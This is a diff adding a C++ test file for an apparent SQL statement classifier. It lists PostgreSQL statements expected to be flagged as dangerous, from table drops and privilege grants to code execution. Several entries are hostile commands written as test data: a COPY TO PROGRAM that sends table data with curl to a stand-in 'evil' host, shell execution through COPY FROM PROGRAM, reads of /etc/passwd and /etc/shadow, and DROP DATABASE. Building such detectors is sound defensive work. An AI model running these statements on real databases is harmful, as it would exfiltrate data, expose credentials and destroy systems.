@@ -1,0 +1,146 @@
+// Dangerous statements, one or more per rule of DANGER.md, including the ones hidden inside
+// otherwise harmless statements.
+#include "classify/sql/sql_case.h"
+
+namespace drawbridge::classify::sql_test {
+namespace {
+
+class DangerousStatementTest : public testing::TestWithParam<SqlCase> {};
+
+// Test that each statement is dangerous and carries exactly the facts that make it so.
+TEST_P(DangerousStatementTest, IsDangerousWithExactFacts) {
+  ExpectClassifiedAs(GetParam());
+}
+
+const SqlCase kDangerousCases[] = {
+    // Drops of any stored object.
+    {"DROP TABLE users", true, {kDrop, kDdl}},
+    {"drop table if exists users cascade", true, {kDrop, kDdl}},
+    {"DROP SCHEMA app CASCADE", true, {kDrop, kDdl}},
+    {"DROP VIEW v", true, {kDrop, kDdl}},
+    {"DROP MATERIALIZED VIEW mv", true, {kDrop, kDdl}},
+    {"DROP INDEX CONCURRENTLY i", true, {kDrop, kDdl}},
+    {"DROP FUNCTION f(int)", true, {kDrop, kDdl}},
+    {"DROP SEQUENCE s", true, {kDrop, kDdl}},
+    {"DROP TYPE mood", true, {kDrop, kDdl}},
+    {"DROP EXTENSION postgis", true, {kDrop, kDdl}},
+    {"DROP TRIGGER audit ON t", true, {kDrop, kDdl}},
+    {"DROP POLICY p ON t", true, {kDrop, kDdl}},
+    {"DROP TABLESPACE fast", true, {kDrop, kDdl}},
+    {"DROP SUBSCRIPTION sub", true, {kDrop, kDdl}},
+    {"DROP DATABASE prod", true, {kDropDatabase, kDrop, kDdl}},
+    {"DROP DATABASE IF EXISTS prod WITH (FORCE)", true, {kDropDatabase, kDrop, kDdl}},
+    {"DROP OWNED BY app", true, {kDrop, kPrivilege, kDdl}},
+    {"TRUNCATE users", true, {kTruncate, kWrite}},
+    {"TRUNCATE TABLE a, b RESTART IDENTITY CASCADE", true, {kTruncate, kWrite}},
+    // Destructive ALTER.
+    {"ALTER TABLE t DROP COLUMN email", true, {kAlterDestructive, kDdl}},
+    {"ALTER TABLE t DROP CONSTRAINT t_fk", true, {kAlterDestructive, kDdl}},
+    {"ALTER TABLE t ALTER COLUMN id DROP IDENTITY", true, {kAlterDestructive, kDdl}},
+    {"ALTER TABLE parent DETACH PARTITION p2020", true, {kAlterDestructive, kDdl}},
+    {"ALTER TABLE t ADD COLUMN x int, DROP COLUMN y", true, {kAlterDestructive, kDdl}},
+    // Heavy locks.
+    {"CREATE INDEX idx ON t (a)", true, {kLockHeavy, kDdl}},
+    {"CREATE UNIQUE INDEX idx ON s.t (a)", true, {kLockHeavy, kDdl}},
+    {"ALTER TABLE t ALTER COLUMN c TYPE bigint", true, {kLockHeavy, kDdl}},
+    {"ALTER TABLE t ALTER c SET NOT NULL", true, {kLockHeavy, kDdl}},
+    {"ALTER TABLE t SET TABLESPACE slow", true, {kLockHeavy, kDdl}},
+    {"ALTER TABLE t ADD COLUMN id bigserial", true, {kLockHeavy, kDdl}},
+    {"ALTER TABLE t ADD COLUMN u uuid DEFAULT gen_random_uuid()", true, {kLockHeavy, kDdl}},
+    {"ALTER TABLE t ADD PRIMARY KEY (id)", true, {kLockHeavy, kDdl}},
+    {"ALTER TABLE t ADD CONSTRAINT u UNIQUE (email)", true, {kLockHeavy, kDdl}},
+    {"ALTER TABLE t SET LOGGED", true, {kLockHeavy, kDdl}},
+    {"ALTER TABLE ALL IN TABLESPACE a SET TABLESPACE b", true, {kLockHeavy, kDdl}},
+    {"ALTER TABLE t ADD COLUMN n int GENERATED ALWAYS AS (a * 2) STORED", true, {kLockHeavy, kDdl}},
+    {"VACUUM FULL t", true, {kLockHeavy}},
+    {"VACUUM (FULL, ANALYZE) t", true, {kLockHeavy}},
+    {"CLUSTER t USING t_pkey", true, {kLockHeavy}},
+    {"REINDEX TABLE t", true, {kLockHeavy}},
+    {"REINDEX DATABASE app", true, {kLockHeavy}},
+    {"LOCK TABLE t", true, {kLockHeavy}},
+    {"LOCK t IN ACCESS EXCLUSIVE MODE", true, {kLockHeavy}},
+    // Privilege changes.
+    {"GRANT SELECT ON users TO analyst", true, {kPrivilege}},
+    {"GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO PUBLIC", true, {kPrivilege}},
+    {"REVOKE INSERT ON t FROM app", true, {kPrivilege}},
+    {"GRANT admin TO alice", true, {kPrivilege}},
+    {"CREATE ROLE intruder LOGIN SUPERUSER", true, {kPrivilege}},
+    {"CREATE USER bob WITH PASSWORD 'x'", true, {kPrivilege}},
+    {"ALTER ROLE bob SUPERUSER", true, {kPrivilege}},
+    {"ALTER USER bob WITH PASSWORD 'y'", true, {kPrivilege}},
+    {"DROP ROLE bob", true, {kPrivilege}},
+    {"DROP USER IF EXISTS bob", true, {kPrivilege}},
+    {"ALTER TABLE t OWNER TO mallory", true, {kPrivilege, kDdl}},
+    {"ALTER SCHEMA app OWNER TO mallory", true, {kPrivilege}},
+    {"ALTER DATABASE app OWNER TO mallory", true, {kPrivilege}},
+    {"REASSIGN OWNED BY old_role TO new_role", true, {kPrivilege}},
+    {"ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO public", true, {kPrivilege}},
+    {"ALTER TABLE t DISABLE ROW LEVEL SECURITY", true, {kPrivilege, kDdl}},
+    {"CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'select 1'",
+     true,
+     {kPrivilege, kDdl}},
+    {"ALTER FUNCTION f() SECURITY DEFINER", true, {kPrivilege, kDdl}},
+    {"SET ROLE admin", true, {kPrivilege}},
+    {"SET LOCAL ROLE admin", true, {kPrivilege}},
+    {"SET SESSION AUTHORIZATION postgres", true, {kPrivilege}},
+    {"SELECT set_config('role', 'admin', false)", true, {kRead, kPrivilege}},
+    {"ALTER ROLE bob RENAME TO robert", true, {kPrivilege, kDdl}},
+    {"SELECT set_config($1, $2, false)", true, {kRead, kPrivilege}},
+    {"CREATE PROCEDURE p() LANGUAGE plpgsql SECURITY DEFINER AS $$BEGIN END$$",
+     true,
+     {kPrivilege, kDdl}},
+    // Server configuration.
+    {"ALTER SYSTEM SET work_mem = '1GB'", true, {kConfig}},
+    {"ALTER SYSTEM RESET ALL", true, {kConfig}},
+    {"SELECT pg_reload_conf()", true, {kRead, kConfig}},
+    {"ALTER ROLE app SET statement_timeout = 0", true, {kConfig}},
+    {"ALTER ROLE ALL RESET ALL", true, {kConfig}},
+    {"ALTER DATABASE app SET search_path = evil", true, {kConfig}},
+    {"ALTER DATABASE app RESET ALL", true, {kConfig}},
+    {"ALTER DATABASE app WITH CONNECTION LIMIT 0", true, {kConfig}},
+    {"SET session_replication_role = replica", true, {kConfig}},
+    // Data export.
+    {"COPY t TO '/tmp/x'", true, {kRead, kExport}},
+    {"COPY (SELECT * FROM users) TO '/var/lib/postgresql/dump.csv' CSV", true, {kRead, kExport}},
+    {"COPY t TO PROGRAM 'curl -d @- http://evil'", true, {kRead, kExport, kCodeExec}},
+    // Code execution.
+    {"DO $$ BEGIN PERFORM 1; END $$", true, {kCodeExec}},
+    {"DO LANGUAGE plpgsql 'BEGIN DELETE FROM t; END'", true, {kCodeExec}},
+    {"COPY t FROM PROGRAM 'id'", true, {kWrite, kCodeExec}},
+    {"COPY t FROM '/etc/passwd'", true, {kWrite, kCodeExec}},
+    {"CREATE FUNCTION sh(text) RETURNS text LANGUAGE plpython3u AS 'import os'",
+     true,
+     {kCodeExec, kDdl}},
+    {"CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/evil.so', 'f'", true, {kCodeExec, kDdl}},
+    {"CREATE EXTENSION dblink", true, {kCodeExec, kDdl}},
+    {"CREATE EXTENSION IF NOT EXISTS pgcrypto", true, {kCodeExec, kDdl}},
+    {"CREATE LANGUAGE plperlu", true, {kCodeExec, kDdl}},
+    {"LOAD 'auto_explain'", true, {kCodeExec}},
+    {"SELECT pg_terminate_backend(pid) FROM pg_stat_activity", true, {kRead, kCodeExec}},
+    {"SELECT pg_catalog.pg_terminate_backend(123)", true, {kRead, kCodeExec}},
+    {"SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE state = 'idle'",
+     true,
+     {kRead, kCodeExec}},
+    {"SELECT pg_read_file('/etc/passwd')", true, {kRead, kCodeExec}},
+    {"SELECT pg_read_binary_file('postgresql.conf')", true, {kRead, kCodeExec}},
+    {"SELECT lo_import('/etc/shadow')", true, {kRead, kCodeExec}},
+    {"SELECT lo_export(12345, '/tmp/x')", true, {kRead, kCodeExec}},
+    {"SELECT lo_unlink(12345)", true, {kRead, kCodeExec}},
+    {"SELECT dblink_exec('dbname=prod', 'DROP TABLE users')", true, {kRead, kCodeExec}},
+    {"SELECT public.dblink_exec('c', 'x')", true, {kRead, kCodeExec}},
+    {"SELECT * FROM t WHERE id = (SELECT pg_terminate_backend(1)::int)", true, {kRead, kCodeExec}},
+    {"WITH k AS (SELECT pg_cancel_backend(42)) SELECT * FROM k", true, {kRead, kCodeExec}},
+    {"SELECT * FROM pg_read_file('/etc/hosts') AS f", true, {kRead, kCodeExec}},
+    {"INSERT INTO loot VALUES (pg_read_file('/etc/passwd'))", true, {kWrite, kCodeExec}},
+    {"INSERT INTO loot SELECT pg_read_file('/etc/passwd')", true, {kWrite, kRead, kCodeExec}},
+    {"CREATE TABLE t (x text DEFAULT pg_read_file('/etc/passwd'))", true, {kDdl, kCodeExec}},
+    {"CALL p(pg_cancel_backend(1))", true, {kWrite, kCodeExec}},
+    {"SELECT * FROM t ORDER BY pg_terminate_backend(t.pid)", true, {kRead, kCodeExec}},
+    {"CREATE INDEX CONCURRENTLY i ON t ((pg_read_file(path)))", true, {kDdl, kCodeExec}},
+    {"UPDATE t SET body = pg_read_file('/etc/passwd') WHERE id = 1", true, {kWrite, kCodeExec}},
+};
+
+INSTANTIATE_TEST_SUITE_P(Cases, DangerousStatementTest, testing::ValuesIn(kDangerousCases));
+
+}  // namespace
+}  // namespace drawbridge::classify::sql_test
